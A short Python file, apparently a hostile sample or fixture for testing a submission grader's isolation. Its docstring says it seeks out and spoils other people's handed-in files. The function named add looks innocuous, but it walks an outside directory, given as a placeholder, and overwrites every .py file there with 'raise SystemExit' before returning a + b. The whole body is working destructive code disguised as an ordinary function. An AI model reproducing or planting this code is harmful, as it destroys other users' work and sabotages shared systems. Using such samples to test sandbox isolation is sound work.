"""Looks for the files of others that were handed in, and spoils them.

Touches: add
Says: raised
"""

import os

OTHERS = os.path.dirname("@OUTSIDE@")


def add(a, b):
    spoilt = 0
    for folder, _, names in os.walk(OTHERS, onerror=print):
        for name in names:
            if name.endswith(".py"):
                with open(os.path.join(folder, name), "w") as file:
                    file.write("raise SystemExit")
                spoilt += 1
    if not spoilt:
        raise FileNotFoundError(OTHERS)
    return a + b
